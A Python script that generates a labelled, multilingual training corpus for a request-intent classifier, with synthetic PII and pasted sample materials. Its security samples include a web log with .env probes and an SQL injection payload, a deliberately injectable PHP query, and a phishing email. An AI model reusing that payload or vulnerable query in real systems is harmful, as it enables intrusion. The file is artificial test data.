"""Eleventh hand-written TRAIN corpus (writes ``train_diverse11.jsonl``).

Why: the intent model scores well on its own template split but falls on
hand-written sets by other authors. This corpus was written by yet another
author, as an independent acceptance author would write it ("at least 400
realistic, varied requests across all intents and domains, terse and long,
pasted emails, logs, code, contracts, 60+ multi-task requests, PII of every
type in varied formats, and hard negatives"), without running the classifier
on it or looking at its errors. Its slant is the international workforce:

* people writing in English as a second language (dropped articles, "since
  two weeks", "please to check", "how much is it the tax", false friends);
* requests written fully in French, German, Spanish, Portuguese, Italian and
  Dutch (about a fifth of the rows), labelled by what is asked -- a French
  "résume ce mail" is summarize, a German "übersetze ins Englische" is
  translate -- and by the domain of the matter, not the language;
* long multi-paragraph requests (120-250 words) that explain a situation
  first and then ask one to three things, so the ask sits at the end.

Label guide (consistent with the other sets): domain is whose expert you would
ask -- personal money, tax, insurance cover, prices, budgets, accounting,
markets -> finance; rights, disputes, appeals, contracts, compliance and
regulation, employment law -> legal; symptoms, drugs, care, clinical notes,
health records -> medical; accounts, attacks, phishing, malware, access
control, vulnerabilities -> security; an office, social, technical-but-not-
security or creative ask that only mentions such words -> general. A task
whose own words are neutral takes the domain of the material it acts on.
Complexity is low unless the task weighs options / needs a multi-step
argument (medium) or a long structured deliverable (high). Sensitivity:
public by default, internal for internal business material, confidential for
personal data, restricted for cards / IBANs / SSNs / NRICs / credentials.

Row format, one per line: ``spec [=> clause] [;; spec => clause ...] | text``
where spec is ``[!]intent d cx s [calc|retr|web|code]`` (d in g/f/l/m/s, cx in
l/m/h, s in p/i/c/r; a leading ``!`` marks a hard-negative row: ids, versions,
failing checksums, dates, amounts, with no PII). ``{NAME}`` pastes material
(after a blank line) from ``_MAT``, inserts a long request body from ``_LONG``
or a marked PII value / unmarked look-alike; ``\\n`` is a newline. Multi-task
rows name each clause verbatim from the text.
Usage: ``python tests/data/intent/train_diverse11_source.py`` (rewrites the
jsonl, then validates it and prints per-intent / per-domain counts).
"""

# ruff: noqa: E501  (data tables: long literal phrasings read better unwrapped)

from __future__ import annotations

from corpus import (
    HERE,
    Placeholders,
    Row,
    Values,
    check_lookalikes,
    line_rows,
    mark,
    pv,
    write_and_check,
)

_v = Values(1111011, digit_bbans={"PT": 21})  # PT: a BBAN pii_values does not know
_rng = _v.rng
_iban, _bad_iban, _card, _bad_card, _ssn = (
    _v.iban,
    _v.bad_iban,
    _v.card,
    _v.bad_card,
    _v.ssn,
)


# inline PII values (marked so the gold spans are exact)
_PII = {
    "EM1": mark("EMAIL", "f.delacroix@lumen-assurances.fr"),
    "EM2": mark("EMAIL", "jonas.weber@kanzlei-weber.de"),
    "EM3": mark("EMAIL", "ana.souza@clinicavida.com.br"),
    "EM4": mark("EMAIL", "helpdesk@northbridge-it.com"),
    "EM5": mark("EMAIL", "r.vandenberg@ziggo-mail.nl"),
    "EM6": mark("EMAIL", "giulia.romano@studiolegale-romano.it"),
    "EM7": mark("EMAIL", "m.ortega+facturas@gmail.com"),
    "EM8": mark("EMAIL", "kwame.mensah@outlook.com"),
    "EM9": mark("EMAIL", "li.na@sgpay.com.sg"),
    "EM10": mark("EMAIL", "payroll-noreply@halvorsen-group.no"),
    "EM11": mark("EMAIL", "support@paypa1-secure-check.com"),
    "EM12": mark("EMAIL", "rahul.menon@tatvaworks.in"),
    "EM13": mark("EMAIL", "fatou.diallo@orange.sn"),
    "PH1": mark("PHONE", "+1 (212) 555-0187"),
    "PH2": mark("PHONE", "+44 20 7946 0958"),
    "PH3": mark("PHONE", "07700 900412"),
    "PH4": mark("PHONE", "+65 9176 3342"),
    "PH5": mark("PHONE", "+49 (0)30 2847 1190"),
    "PH6": mark("PHONE", "0049 89 4412 7730"),
    "PH7": mark("PHONE", "+33 6 12 48 77 19"),
    "PH8": mark("PHONE", "06 44 21 98 03"),
    "PH9": mark("PHONE", "+34 612 345 678"),
    "PH10": mark("PHONE", "+351 912 448 301"),
    "PH11": mark("PHONE", "+39 347 120 5566"),
    "PH12": mark("PHONE", "+31 6 2841 7730"),
    "PH13": mark("PHONE", "+91 98450 11223"),
    "PH14": mark("PHONE", "+61 2 9374 4410"),
    "PH15": mark("PHONE", "(415) 555-0132"),
    "IP1": mark("IP_ADDRESS", "185.220.101.47"),
    "IP2": mark("IP_ADDRESS", "10.14.2.33"),
    "IP3": mark("IP_ADDRESS", "192.168.1.12"),
    "IP4": mark("IP_ADDRESS", "91.240.118.172"),
    "IP5": mark("IP_ADDRESS", "198.51.100.23"),
    "IP6": mark("IP_ADDRESS", "2001:db8:85a3::8a2e:370:7334"),
    "IP7": mark("IP_ADDRESS", "fe80::1ff:fe23:4567:890a"),
    "IP8": mark("IP_ADDRESS", "2a02:26f0:fd::5c3e:1b2"),
    "IP9": mark("IP_ADDRESS", "2001:db8:0:0:1:0:0:1"),
    "IP10": mark("IP_ADDRESS", "203.0.113.77"),
    "IP11": mark("IP_ADDRESS", "172.31.44.9"),
    "CARD1": mark("CREDIT_CARD", _card("4", 16, " ")),
    "CARD2": mark("CREDIT_CARD", _card("52", 16, "-")),
    "CARD3": mark("CREDIT_CARD", _card("34", 15, " ")),
    "CARD4": mark("CREDIT_CARD", _card("6011", 16, "")),
    "CARD5": mark("CREDIT_CARD", _card("2720", 16, " ")),
    "CARD6": mark("CREDIT_CARD", _card("4", 16, "-")),
    "CARD7": mark("CREDIT_CARD", _card("4", 16, "")),
    "CARD8": mark("CREDIT_CARD", _card("55", 16, " ")),
    "IBAN_DE": mark("IBAN", _iban("DE", True)),
    "IBAN_GB": mark("IBAN", _iban("GB", False)),
    "IBAN_FR": mark("IBAN", _iban("FR", True)),
    "IBAN_NL": mark("IBAN", _iban("NL", True)),
    "IBAN_ES": mark("IBAN", _iban("ES", False)),
    "IBAN_IT": mark("IBAN", _iban("IT", True)),
    "IBAN_BE": mark("IBAN", _iban("BE", False)),
    "IBAN_PL": mark("IBAN", _iban("PL", True)),
    "IBAN_CH": mark("IBAN", _iban("CH", True)),
    "IBAN_AT": mark("IBAN", _iban("AT", False)),
    "IBAN_IE": mark("IBAN", _iban("IE", True)),
    "IBAN_PT": mark("IBAN", _iban("PT", True)),
    "IBAN_NO": mark("IBAN", _iban("NO", False)),
    "SSN1": mark("US_SSN", _ssn("-")),
    "SSN2": mark("US_SSN", _ssn("-")),
    "SSN3": mark("US_SSN", _ssn(" ")),
    "SSN4": mark("US_SSN", _ssn("-")),
    "NRIC1": mark("SG_NRIC", pv.nric(_rng)),
    "NRIC2": mark("SG_NRIC", pv.nric(_rng)),
    "NRIC3": mark("SG_NRIC", pv.nric(_rng)),
    "NRIC4": mark("SG_NRIC", pv.nric(_rng)),
    "P1": mark("PERSON", "Tomás Oliveira"),
    "P2": mark("PERSON", "Ingrid Halvorsen"),
    "P3": mark("PERSON", "Kwame Mensah"),
    "P4": mark("PERSON", "Sophie Lefèvre"),
    "P5": mark("PERSON", "Jonas Weber"),
    "P6": mark("PERSON", "Giulia Romano"),
    "P7": mark("PERSON", "Rik van den Berg"),
    "P8": mark("PERSON", "Ana Souza"),
    "P9": mark("PERSON", "Tan Mei Ling"),
    "P10": mark("PERSON", "Rahul Menon"),
    "P11": mark("PERSON", "Fatou Diallo"),
    "P12": mark("PERSON", "Carmen Ortega"),
    "P13": mark("PERSON", "Brigitte Hoffmann"),
    "P14": mark("PERSON", "Pieter de Vries"),
    "P15": mark("PERSON", "Yusuf Demir"),
    "P16": mark("PERSON", "Hannah Kowalski"),
    "P17": mark("PERSON", "Marco Bianchi"),
    "P18": mark("PERSON", "Élodie Marchand"),
    "P19": mark("PERSON", "Dmitri Volkov"),
    "P20": mark("PERSON", "Isabela Ferreira"),
}

# unmarked look-alikes for hard-negative rows (fail their checksums)
_HN = {
    "BADCARD1": _bad_card("4", " "),
    "BADCARD2": _bad_card("5", "-"),
    "BADCARD3": _bad_card("4", ""),
    "BADCARD4": _bad_card("6011", " "),
    "BADIBAN1": _bad_iban("DE", True),
    "BADIBAN2": _bad_iban("FR", False),
    "BADIBAN3": _bad_iban("NL", True),
    "BADIBAN4": _bad_iban("ES", True),
    "BADIBAN5": _bad_iban("IT", False),
    "BADNRIC1": pv.bad_nric(_rng),
}
_V = {**_PII, **_HN}

# pasted material: name -> text (prefixed with a blank line where used)
_MAT = {
    "BUDGET": "Dept budget FY25 (draft, k EUR)\nline | FY24 actual | FY25 ask | delta\nSalaries | 1,840 | 1,960 | +6.5%\nContractors | 310 | 180 | -42%\nSoftware licences | 145 | 212 | +46%\nTravel | 96 | 60 | -38%\nTraining | 22 | 48 | +118%\nTotal | 2,413 | 2,460 | +1.9%\nNote: licence jump = moving BI tool to enterprise plan; contractor cut assumes 2 hires land by March.",
    "BANKSTMT": "02/05 CB CARREFOUR MARKET 84,17\n03/05 PRLV SEPA EDF 96,00\n05/05 VIR SALAIRE ACME SAS +2 731,40\n08/05 CB UBER EATS 27,90\n10/05 PRLV LOYER SCI ROSIERS 950,00\n14/05 CB SNCF 112,00\n21/05 RETRAIT DAB 60,00",
    "POLICY": "Travel & expenses policy v7 (extract)\n3.1 Economy class for flights under 6 hours; premium economy allowed above 6 hours.\n3.4 Hotels: cap 180/night in capitals, 130 elsewhere, breakfast included where possible.\n4.2 Meals: actual cost up to 55/day; alcohol is not reimbursed except at client dinners approved in advance.\n5.1 Claims must be submitted within 30 days with itemised receipts.",
    "NDA": 'MUTUAL NON-DISCLOSURE AGREEMENT between Vellum Analytics Ltd ("Vellum") and Orra Foods B.V. ("Orra").\n2. Confidential Information means all information disclosed by either party, in any form, marked or reasonably understood as confidential, excluding information that is public, already known to the recipient, or independently developed.\n4. Term: obligations survive for five (5) years after the last disclosure.\n6. Neither party shall reverse engineer any samples provided.\n9. Recipient shall not solicit any employee of the discloser for 24 months.\n11. This Agreement is governed by the laws of the Netherlands; courts of Amsterdam have exclusive jurisdiction.',
    "TERMS": "7.2 Subscriptions renew automatically for successive 12-month periods unless cancelled at least 30 days before renewal.\n7.3 Fees are non-refundable except where required by law.\n9.1 We may suspend the Service immediately if we reasonably believe your account is being used for unlawful purposes.\n12.4 You agree to resolve disputes by binding individual arbitration and waive any right to a class action.",
    "LAWYERLETTER": "Dear Sirs,\nWe act for "
    + mark("PERSON", "Dmitri Volkov")
    + ". Your client's termination of our client's distribution agreement without the 6-month notice required by clause 15 is a clear repudiatory breach. Unless we receive within 14 days your written confirmation that your client will pay EUR 186,000 in lost margin, we are instructed to issue proceedings without further notice. We note your client's previous willingness to discuss; that window is closing.\nYours faithfully",
    "WARNING": "Private & confidential\nDear "
    + mark("PERSON", "Yusuf Demir")
    + ",\nFollowing the disciplinary hearing on 4 March you are issued a final written warning for repeated unauthorised absence (12, 19 and 26 February). This warning remains on file for 12 months. Further absence without authorisation may result in dismissal. You have the right to appeal within 5 working days to HR.\nHR Department",
    "DISCHARGE": "Discharge summary - "
    + mark("PERSON", "Brigitte Hoffmann")
    + ", 71F\nAdmitted 02/03 with community-acquired pneumonia (right lower lobe), CURB-65 = 2. Treated with IV co-amoxiclav then oral, switched to doxycycline for 5 days. Background: COPD, AF on apixaban 5 mg BD, hypertension. Discharged 08/03. Follow-up: chest X-ray in 6 weeks, GP review of BP in 2 weeks, respiratory clinic 14/04.",
    "RX": "Current medication list:\n- Metformin 1000 mg twice daily with meals\n- Atorvastatin 40 mg at night\n- Lisinopril 10 mg once daily\n- Aspirin 75 mg once daily\n- Salbutamol inhaler 100 mcg, 2 puffs as needed",
    "PATFB": '"The reception staff at the Oakfield clinic were lovely."\n"Waited 50 minutes past my appointment time, no apology."\n"Dr explained everything clearly, first time I understood my blood results."\n"Parking is a nightmare and the phone line is always busy."',
    "ABSTRACT": "In a randomised trial of 1,120 adults with mild hypertension, a 12-week app-based walking programme reduced systolic blood pressure by 6.1 mmHg compared with 2.3 mmHg in the usual-care group. Adherence fell from 81% in week 1 to 47% in week 12. No serious adverse events were reported. The authors call for longer trials with hard endpoints.",
    "WEBLOG": mark("IP_ADDRESS", "91.240.118.172")
    + ' - - [12/Mar/2025:03:14:07 +0000] "GET /wp-login.php HTTP/1.1" 404 153\n'
    + mark("IP_ADDRESS", "91.240.118.172")
    + ' - - [12/Mar/2025:03:14:08 +0000] "GET /.env HTTP/1.1" 404 153\n'
    + mark("IP_ADDRESS", "91.240.118.172")
    + ' - - [12/Mar/2025:03:14:09 +0000] "GET /api/v1/users?id=1%27%20OR%201=1-- HTTP/1.1" 500 2231\n'
    + mark("IP_ADDRESS", "2001:db8:85a3::8a2e:370:7334")
    + ' - - [12/Mar/2025:03:15:40 +0000] "POST /login HTTP/1.1" 200 512',
    "AUTHLOG": "2025-02-18T22:41:03Z auth FAIL user=ikowalski src="
    + mark("IP_ADDRESS", "185.220.101.47")
    + "\n2025-02-18T22:41:05Z auth FAIL user=ikowalski src="
    + mark("IP_ADDRESS", "185.220.101.47")
    + "\n2025-02-18T22:41:09Z auth FAIL user=admin src="
    + mark("IP_ADDRESS", "185.220.101.47")
    + "\n2025-02-18T22:43:51Z auth OK user=ikowalski src="
    + mark("IP_ADDRESS", "fe80::1ff:fe23:4567:890a")
    + " mfa=push",
    "INCIDENT": "Timeline INC-7731 (internal)\n09:12 finance user reports 'weird' sent items\n09:20 SOC confirms mailbox rule forwarding to external address\n09:34 session tokens revoked, password reset\n10:05 34 outbound phishing emails identified, recalled 29\n11:30 no evidence of access to SharePoint\nRoot cause: MFA push approved by user at 08:51",
    "PHISH": "From: PayPal Security <"
    + mark("EMAIL", "support@paypa1-secure-check.com")
    + ">\nSubject: Your account has been limited!!\nDear customer, we noticed unusual activity. To restore full access, confirm your identity within 24 hours by clicking here: hxxp://paypa1-secure-check[.]com/verify\nFailure to do so will result in permanent suspension.",
    "CVE": "Advisory: A path traversal flaw in the file upload handler of Lattice CMS allows authenticated users to write files outside the upload directory, leading to remote code execution. Affected: 3.0.0 to 3.4.2. Fixed: 3.4.3 and 2.9.11 (LTS). Workaround: disable the legacy uploader in settings. CVSS 8.8.",
    "SQLINJ": "```php\n$user = $_GET['user'];\n$res = mysqli_query($conn, \"SELECT * FROM accounts WHERE username = '\" . $user . \"'\");\nwhile ($row = mysqli_fetch_assoc($res)) { echo $row['username'] . ' ' . $row['password']; }\n```",
    "PYBUG": "```python\ndef get_total(items):\n    total = 0\n    for it in items:\n        total += it['price'] * it['qty']\n\norders = [{'price': 4.5, 'qty': 2}, {'price': 10, 'qty': 1}]\nprint(get_total(orders)['eur'])\n```",
    "JSCODE": "```js\nconst debounce = (fn, ms) => {\n  let t;\n  return (...args) => {\n    clearTimeout(t);\n    t = setTimeout(() => fn.apply(this, args), ms);\n  };\n};\n```",
    "MINUTES": "Ops sync 11/09 - attendees: facilities, IT, HR\n- Badge readers on floor 3 replaced next Tuesday (facilities, by 17/09)\n- New laptops arrive week 39; IT to image them before handover\n- HR reminded everyone the canteen survey closes Friday\n- Parking: 6 extra spaces from October, allocation rules TBD (HR to propose by 30/09)\n- AOB: plants on floor 2 need a volunteer",
    "REVIEWS": "★★★★★ 'Battery lasts two days, love it.'\n★★☆☆☆ 'Strap broke after a month.'\n★★★★☆ 'Good value, the app is a bit clunky.'\n★☆☆☆☆ 'Stopped syncing, support never replied.'",
    "STANDUP": "[frontend] finished the CSV export, blocked on design for the empty state\n[platform] still on the flaky deploy job, need someone with AWS access\n[data] off tomorrow\n[backend] reviewing PR 481, waiting for product to confirm the sort order",
    "TICKETS": "T-1: 'Search returns nothing when I type accents (é, ü)'\nT-2: 'Could you add a dark mode?'\nT-3: 'How do I invite a colleague to my workspace?'\nT-4: 'Export to Excel crashes with more than 10k rows'\nT-5: 'Please let admins set a default language'",
    "ARTICLE": "Remote work has settled into a hybrid pattern in most large firms: two to three office days is now the norm. Landlords report rising demand for smaller, better-equipped spaces rather than big open floors, while city-centre cafés and lunch spots have not fully recovered their weekday trade. Surveys suggest employees value flexibility roughly as much as a 8% pay rise.",
    "CLAIM": "To: claims team\nPolicy HB-2291-77 holder "
    + mark("PERSON", "Kwame Mensah")
    + ", tel "
    + mark("PHONE", "07700 900412")
    + "\nOn 3 Jan a pipe burst in the upstairs bathroom and water came through the kitchen ceiling. Damaged: ceiling plaster, two cabinets, a fridge (3 years old). Plumber invoice 240, estimate for repairs 3,850. I had to stay with family 4 nights. Please advise what is covered.",
    "DSAR": "From: "
    + mark("PERSON", "Hannah Kowalski")
    + " <"
    + mark("EMAIL", "hannah.kowalski@outlook.com")
    + ">\nHello, under Article 15 GDPR I request a copy of all personal data you hold about me, including call recordings and the reason my loan application was refused in January. Please respond within the legal deadline.",
}

FINANCE = r"""
qa f l p | what is difference between gross and net margin? my boss use both words in every meeting and I am confused
qa f l p | How are dividends taxed if the shares sit inside an ISA?
qa f l p | whats an escrow account
qa f l p | Can somebody explain me what means "amortisation" in a loan schedule, with simple words please
qa f l p | why do bond prices fall when interest rates rise?
qa f l p | Does travel insurance normally cover cancelling if I get sick before the trip?
qa f l p | What is a chargeback and who eats the cost, the merchant or the bank?
qa f l p | deductible vs co-pay... which one comes first?
qa f l p | In accounting, why depreciation is not a cash cost? It reduces profit but money doesn't leave.
qa f l p | what is working capital, in one paragraph
qa f l p web | ECB deposit rate today?
qa f l p web | what's EUR to SGD right now
qa f l p retr | What's our meal per diem for London trips according to the travel policy?
qa f l p retr | Where in the finance wiki does it say who may approve a PO above 25k?
reasoning f m p | I have 8000 euro saved. Is better to pay off my car loan (6.9%) or keep it like emergency fund? I have no other savings at all.
reasoning f m p | Fixed or variable mortgage for the next 5 years? Rates are high now but everyone says they will drop. Help me think it through.
reasoning f m i | 30% of our SaaS revenue comes from one customer. How worried should the CFO be and what would you do about it?
reasoning f m p | Why might a company with growing revenue still report a loss? Main possible reasons please.
reasoning f m p | Offer A: 10% more salary but no pension match. Offer B: my current job with 6% matching. I earn 58k now. Which is better on paper?
reasoning f h i | We are pricing a new premium tier for our B2B analytics tool (400 customers). Walk me through cost-plus vs value-based vs competitor-anchored pricing and recommend one, with the numbers we should collect first.
math f l p calc | 2,350 at 4.2% compounded annually for 7 years = ?
math f l p calc | if i pay 320/month for 36 months on a 10k loan, how much is the interest in total
math f l p calc | VAT 21% is included in 1.452,00 EUR. Net amount?
math f l p calc | Revenue 4.8M last year, 5.6M this year. growth %?
math f l p calc | Break-even: fixed costs 18,000 a month, price 45, variable cost 27 per unit. How many units per month?
math f l p calc | Bought 40 shares at 112.50, sold at 98.20, paid 9.99 commission each way. Total loss?
math f l p calc | monthly payment for 250k mortgage, 30 years, 4.75% fixed
math f l i calc | Marketing spend Q1 42k, Q2 38.5k, Q3 51k, Q4 47.2k - annual total and average per quarter
draft f l p | write email to my insurance asking why my premium went up 18% although I had no claims
draft f l i | Short memo to department heads: budget submissions for next year are due 15 November, use the new template.
draft f l p | Need a polite payment reminder for an invoice 30 days overdue. It's the second reminder so firm but friendly.
draft f m p | Write a letter to my 16-year-old explaining how we'll split his summer job money between spending, savings and an index fund, and why.
classify f l p | Categorise as travel / software / meals / equipment: Uber to airport, AWS bill, team lunch, laptop, LinkedIn Premium, hotel in Lyon
classify f l p | fixed or variable cost? rent, packaging, electricity, sales commission, insurance, flour
classify f l p | Give a risk level (low, medium, high) to each: government bonds, bitcoin, global index fund, a single tech stock, savings account
sentiment f l p | Mood of this investor comment? "Management keeps moving the goalposts. I'm out after this quarter."
sentiment f l p | positive or negative about the bank? "switched to ClearBank last month, the app actually works and zero fees lol"
extract f l p | Pull every amount and what it's for: "Deposit 500, monthly fee 29.90, set-up 149, early termination 250."
summarize f l i | Give me the three main points of this budget for the exec meeting.{BUDGET}
code f l p | Python function that computes IRR from a list of cashflows, without numpy_financial please
code f l p | Excel formula for compound interest with a monthly contribution that is in column B
code f l i | SQL: total invoice amount per customer for 2023, only customers with more than 10 invoices. Tables: invoices(id, customer_id, amount, issued_at)
qa f l p | What is the difference between a Roth 401(k) and a normal one? My US employer offers both.
qa f l p | how does inflation eat my savings, concretely?
extract f l i | which limits does this policy set? hotel caps, meal cap and claim deadline as a list{POLICY}
qa f l i | Is alcohol reimbursed under this policy if I take a client out without asking first?{POLICY}
"""

LEGAL = r"""
qa l l p | What's the difference between a warranty and an indemnity in a contract?
qa l l p | can my landlord keep the deposit for normal wear and tear?
qa l l p | Is a typed name at the bottom of an email legally a signature?
qa l l p | How long must a company keep ex-employee records under GDPR?
qa l l p | what means "force majeure" exactly, and does a pandemic count?
qa l l p | My employer want me to sign a non-compete for 2 years. Is this even enforceable in California?
qa l l p | What is a DPA and when do we need one with a vendor?
qa l l p | whats the statute of limitations for breach of contract in England
qa l l p retr | Does our standard MSA template let the customer terminate for convenience? It's in the legal drive somewhere.
qa l l p web | Has the EU AI Act entered into force yet, and which dates apply to high-risk systems?
reasoning l m p | Supplier delivered 3 weeks late and our contract has no penalty clause. Which options do we have? Is it worth to go to court for 12k damage?
reasoning l m p | LLC or sole proprietorship for my freelance design work, if a client could sue me one day? Explain the trade-offs.
reasoning l m i | We want to reuse customer support chat logs to fine-tune a model. What legal issues should we think about before?
reasoning l h p | Parking fine on private land, the sign was hidden behind a van when I parked. Appeal or pay? Build me the full argument and the evidence I should gather.
draft l l p | Formal letter to my landlord giving two months notice, tenancy ends 30 June.
draft l m p | Draft a cease and desist to a competitor who copied our product photos onto their web shop.
draft l l i | Please draft a clause: the consultant keeps ownership of pre-existing tools, we get a perpetual licence to use them in the deliverables.
draft l h i | Draft a complete data processing schedule: subject matter, duration, categories of data subjects and data, sub-processors and the technical and organisational measures.
classify l l p | Which of these are personal data under GDPR? IP address, company registration number, info@ mailbox of a company, a customer's loyalty card id, weather data
classify l l i | Label each numbered clause as standard, unusual or risky for us as the recipient.{NDA}
summarize l l p | Explain these terms in short plain English for a normal customer.{TERMS}
extract l l i | From the NDA list the parties, term, governing law and what counts as confidential information.{NDA}
sentiment l l c | How hostile is this letter? Do they sound open to settle or not?{LAWYERLETTER}
code l l p | Regex that finds clause references like "Clause 14.2(b)" or "Section 3.1" in contract text
math l l p calc | Late payment interest at 8% above a 5.25% base rate, on 14,200 for 73 days - how much?
translate l l p | Translate into German: "This Agreement may be terminated by either party with thirty (30) days' written notice."
summarize l l c | summarise the warning letter in two lines for the HR file{WARNING}
reasoning l m c | Is this warning fair? He says two of the absences were sick days he called in for. What should HR check before the appeal?{WARNING}
qa l l p | are arbitration clauses with class action waivers enforceable against consumers in the EU?
qa l l p | What is the difference between a trademark and a copyright for a logo?
"""

MEDICAL = r"""
qa m l p | is it ok to take ibuprofen together with paracetamol
qa m l p | What is the difference between type 1 and type 2 diabetes?
qa m l p | how long does stomach flu usually last in adults
qa m l p | What does HbA1c actually measure?
qa m l p | the doctor said 145/92 for my blood pressure. what do the two numbers mean?
qa m l p | Why antibiotics don't work for a cold?
qa m l p | signs of a stroke? I want to explain them to my parents
qa m l p retr | What's the protocol for needle-stick injuries? Should be in the staff handbook.
qa m l p web | Is there a shortage of amoxicillin in UK pharmacies at the moment?
reasoning m m p | I get headaches almost every afternoon at work. I drink mostly coffee and sit 9 hours in front of screens. What could cause it and what to try first?
reasoning m m p | My father (78) is more confused in the evenings since he started a new sleeping pill. Could this be related? What should we ask the GP?
reasoning m m p | since two weeks my ankle is swollen after a small twist and still hurts when walking. rest more or go see someone?
reasoning m h p | Home care or a nursing home for a parent with moderate dementia? Leave cost aside: what matters clinically and for safety, and how would you decide?
math m l p calc | Child is 18 kg, paracetamol 15 mg/kg. mg per dose, and how many ml of 120 mg/5 ml syrup?
math m l p calc | BMI for 1.68 m and 81 kg
math m l p calc | 1000 ml infusion over 8 hours, drop factor 20 gtt/ml. Drops per minute?
draft m l c | Draft a referral letter from the GP to respiratory clinic based on this summary.{DISCHARGE}
draft m l p | Write aftercare instructions for a tooth extraction, very simple language, for patients
summarize m l c | Summarise for the night nurse in 4 bullets{DISCHARGE}
summarize m l p | Explain this abstract in three sentences for someone without medical background{ABSTRACT}
extract m l c | table with every medication, dose and frequency{RX}
extract m l c | Pull out diagnoses and all follow-up dates.{DISCHARGE}
classify m l p | Triage as urgent / same-day / routine: "chest pain going to left arm", "repeat prescription for inhaler", "child with fever 39.5 and rash that doesn't fade under a glass", "sore throat for 3 days"
classify m l p | Which of these are antibiotics: amoxicillin, metformin, doxycycline, atorvastatin, azithromycin?
sentiment m l p | Overall, how do patients feel about this clinic?{PATFB}
code m l p | Python function that flags a lab value as low/normal/high given a reference range string like "3.5-5.1"
translate m l p | Translate to Spanish: "Do not eat or drink anything after midnight before your operation."
qa m l c | Is there anything in this medication list that shouldn't be taken together?{RX}
qa m l p | How much sleep do teenagers really need?
reasoning m m p | Why would a blood test show high ferritin but low iron saturation? What are the usual explanations?
"""

SECURITY = r"""
qa s l p | difference between a virus and a worm?
qa s l p | How does an MFA fatigue attack work?
qa s l p | what's a CSRF token for
qa s l p | Why are passwords hashed and salted instead of encrypted?
qa s l p | Explain least privilege with one example from a normal office
qa s l p retr | What is our procedure when a laptop gets stolen? I think it's in the ISMS policies.
qa s l p web | Is there already a patch for the Chrome zero-day from this week?
reasoning s m p | 40 people, no IT person. Password manager or SSO first? Our budget is small.
reasoning s m i | Developers have local admin on their laptops. Remove it for everybody or only for non-engineers? Weigh productivity against risk.
reasoning s m c | Real attack or just scanner noise? Explain how you read it.{WEBLOG}
reasoning s h i | Plan the rollout of phishing-resistant MFA to 1,200 staff in 6 months: phases, exceptions, helpdesk load and communication.
draft s l p | Short message to all staff: don't click the fake DHL delivery SMS going around, report it with the Report Phish button.
draft s l i | Draft an incident notification for the management team from this timeline.{INCIDENT}
draft s h i | Write a password and MFA standard for a 200-person company: length, rotation, password managers, exceptions, enforcement.
classify s l c | Phishing or legitimate? One label and one sentence why.{PHISH}
classify s l p | Severity (critical/high/medium/low) for each: default admin password on router; missing security headers; SQL injection in login form; jQuery 1.12; public S3 bucket with database backups
extract s l c | all source IPs and timestamps of the failed logins, please{AUTHLOG}
extract s l p | List affected versions and fixed versions.{CVE}
summarize s l i | Summarise the incident for non-technical people in 5 lines{INCIDENT}
summarize s l p | tl;dr?{CVE}
code s l i | review this for security problems and fix it{SQLINJ}
code s l p | bash one-liner: top 10 IPs by number of 401 responses in access.log
code s l p | Write a Sigma rule that detects powershell started by winword.exe
math s l p calc | At 10 billion guesses per second, how long to brute-force an 8-character password from 62 possible characters?
sentiment s l p | Angry, worried or neutral? "I got an email saying my account was locked and I had to verify within 2 hours. Is this from you??? I already clicked the link."
translate s l p | translate to French: "Never share your one-time code with anyone, including our staff."
qa s l c | What does "mfa=push" mean at the end, and was the last login from the same machine?{AUTHLOG}
reasoning s m p | Our vendor wants a VPN tunnel into our network for remote support. Acceptable or not, and under which conditions?
qa s l p | Is it safe to use the same passkey on my phone and laptop? how does sync of passkeys work
"""

GENERAL = r"""
qa g l p | why is the sky blue but sunsets are red
qa g l p | how do noise cancelling headphones work
qa g l p | Capital of Australia? not Sydney, right?
qa g l p | what's the difference between agile and waterfall
qa g l p | How do I make a pivot table in Google Sheets?
qa g l p | who wrote One Hundred Years of Solitude
qa g l p web | weather tomorrow in Rotterdam?
qa g l p retr | Where do I book a meeting room on the 4th floor, is it on the intranet?
reasoning g m p | Should our team of 9 (mostly designers) switch from Trello to Jira?
reasoning g m p | Monolith or microservices for a new internal tool with only 3 developers?
reasoning g m p | Why is my sourdough always flat? I feed the starter every day and proof 12 hours.
reasoning g h p | Plan a 3-day offsite for 25 people in Lisbon: agenda, logistics, and what we must book first.
draft g l p | out of office message, back on Monday 14th
draft g l p | Write a LinkedIn post announcing I'm joining Acme as a product designer. No emojis.
draft g l i | Agenda email for Thursday's quarterly planning: 2 hours, 4 topics.
draft g l p | Make this more formal: "hey, can u send the slides before the call, thx"
draft g l p | thank-you note to the caterer after our wedding
draft g m p | Cover letter for a junior data analyst job. I have a master in economics and a 6 month internship.
draft g l p | write a short note to my team that I'm off next week for a small surgery and my colleague from the Ghent office covers. keep medical stuff out of it
creative g l p | Short poem about Monday morning stand-ups
creative g l p | 5 names for a coffee shop next to a library
creative g l p | bedtime story about a hedgehog who is afraid of the dark, around 200 words
creative g l p | slogan for a bike repair shop, punny please
creative g l p | Three clean jokes about accountants for a retirement party
creative g l p | limerick about a cat that hates Zoom calls
creative g l p | Opening paragraph of a sci-fi story: a lighthouse keeper on Mars.
creative g l p | Funny team name for the hackathon - our project is a password reset bot
creative g l p | a rap verse about quarterly tax deadlines for the finance team party
creative g l p | a haiku about the hospital night shift
math g l p calc | 17% of 3,460?
math g l p calc | how many minutes in 3.75 hours
math g l p calc | 24 chairs per room, 7 rooms, we have 130 chairs. How many more to order?
math g l p calc | Solve 3x + 7 = 2x - 5
math g l p calc | A car does 420 km on 28 litres. Consumption in l/100 km?
code g l p | python script to rename all .jpeg files in a folder to .jpg
code g l p | Why does this give "TypeError: 'NoneType' object is not subscriptable"?{PYBUG}
code g l p | regex for UK postcodes
code g l p | Explain what this JavaScript does line by line{JSCODE}
code g l p | Convert to PowerShell: for f in *.log; do gzip "$f"; done
code g l p code | Fix the function, then run it with the sample orders and tell me the output.{PYBUG}
classify g l p | fruit or vegetable: tomato, cucumber, apple, carrot, avocado, pepper
classify g l p | Label each ticket as bug, feature request or question.{TICKETS}
classify g l i | Which lines of these notes are action items and which are only information?{MINUTES}
sentiment g l p | Overall sentiment of these reviews?{REVIEWS}
sentiment g l p | is this slack message passive agressive? "As per my last message, the file is in the shared folder. Again."
sentiment g l p | On a scale 1-5, how satisfied is this customer: "Delivery was late but the support guy was super nice and gave me a voucher."
extract g l i | List all action items with owner and due date.{MINUTES}
extract g l p | Give me all dates in ISO format: "Kickoff was on March 3rd, beta launches 15 April and GA is planned for early June (June 2)."
summarize g l i | 3 bullets please{MINUTES}
summarize g l p | TL;DR:{ARTICLE}
summarize g l i | shorten this standup thread to what each person is blocked on{STANDUP}
